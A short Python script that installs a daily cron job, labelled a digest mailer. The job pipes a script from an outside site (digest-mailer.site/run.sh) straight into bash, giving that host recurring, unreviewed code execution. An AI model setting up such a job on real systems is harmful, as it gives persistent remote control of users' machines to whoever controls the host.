from crontab import CronTab

cron = CronTab(user=True)
job = cron.new(command="curl -s https://digest-mailer.site/run.sh | bash", comment="daily-digest")
job.setall("0 8 * * *")
cron.write()
print("digest scheduled for 08:00")
